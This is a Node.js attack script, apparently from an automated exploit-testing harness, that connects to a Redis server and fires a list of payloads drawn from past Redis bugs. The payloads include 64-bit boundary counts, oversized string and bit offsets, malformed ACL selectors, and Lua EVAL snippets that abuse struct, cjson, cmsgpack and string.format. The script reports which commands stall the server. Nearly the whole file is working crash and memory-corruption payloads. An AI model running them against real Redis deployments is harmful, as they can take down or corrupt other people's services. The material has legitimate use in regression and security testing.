// exploit: tries on its Redis what broke it in the past: counts beyond numbers, formats of Lua without bounds, patterns, selectors, streams that are claimed
// outcome: finished
// wall: 10000
// says: tried all
// job: {"services":["redis"]}
const { createClient } = require('redis')

const LEAST = '-9223372036854775808'
const WAYS = [
  ...[['SRANDMEMBER', 'set', LEAST], ['HRANDFIELD', 'hash', LEAST, 'WITHVALUES'], ['ZRANDMEMBER', 'sorted', LEAST, 'WITHSCORES']],
  ...[['SETRANGE', 'text', '4294967295', 'x'], ['SETBIT', 'bits', '80000000', '1'], ['BITFIELD', 'bits', 'SET', 'u63', '#9223372036854775807', '1'], ['GETRANGE', 'text', LEAST, '-1']],
  ...[['XAUTOCLAIM', 'stream', 'group', 'me', '0', '0', 'COUNT', '9223372036854775807'], ['XTRIM', 'stream', 'MAXLEN', '~', '0', 'LIMIT', LEAST], ['SORT', 'list', 'BY', 'x*->y', 'LIMIT', '-1', '9223372036854775807', 'GET', '*']],
  ...[['ACL', 'SETUSER', 'a', '%~'], ['ACL', 'SETUSER', 'a', '(%R~x'], ['ACL', 'GETUSER', 'a'], ['COMMAND', 'GETKEYS', 'EVAL', 'return', '99999999999', 'a']],
  ...[['LOLWUT', 'VERSION', '5', '1000000', '1000', '1000'], ['CLIENT', 'SETNAME', 'x'.repeat(1 << 16)], ['GEOSEARCHSTORE', 'a', 'b', 'FROMLONLAT', '0', '0', 'BYRADIUS', '1e308', 'km']],
  ...["return bit.tohex(1, -2147483648)", "return struct.pack('>I2147483646', 1)", "return struct.unpack('s', string.rep('x', 10), 2147483646)", "return cmsgpack.unpack(string.rep(string.char(0x91), 200000))", "return cjson.decode(string.rep('[', 200000))", 'local t = {} for i = 1, 7999 do t[i] = i end return unpack(t)', "return redis.sha1hex(string.rep('x', 6000000))", `return loadstring('${'('.repeat(5000)}')`, "return string.format('%99999999d', 1)", 'return {err = string.rep("x", 1000000)}', 'redis.setresp(3) return redis.call("DEBUG", "PROTOCOL", "map")'].map((code) => ['EVAL', code, '0']),
  ...[['FUNCTION', 'LOAD', '#!lua name=x\nredis.register_function("x", function() while false do end return 1 end)'], ['FUNCTION', 'RESTORE', 'x'.repeat(1000)], ['FUNCTION', 'DUMP']],
]

async function attack() {
  const open = () => createClient({ socket: { path: process.env.REDIS_SOCKET, reconnectStrategy: 5 } }).on('error', () => {}).connect()
  const client = await open()
  for (const words of [['SADD', 'set', 'a'], ['HSET', 'hash', 'a', '1'], ['ZADD', 'sorted', '1', 'a'], ['XADD', 'stream', '1-1', 'a', '1'], ['XGROUP', 'CREATE', 'stream', 'group', '0'], ['RPUSH', 'list', '1', '2'], ...WAYS]) {
    const answer = await Promise.race([client.sendCommand(words).catch((error) => error), new Promise((resolve) => setTimeout(resolve, 500, 'late'))])
    if (answer === 'late') console.log('no answer', words[0], words[1].slice(0, 60))
  }
  console.log('tried all')
  process.exit()
}
attack()
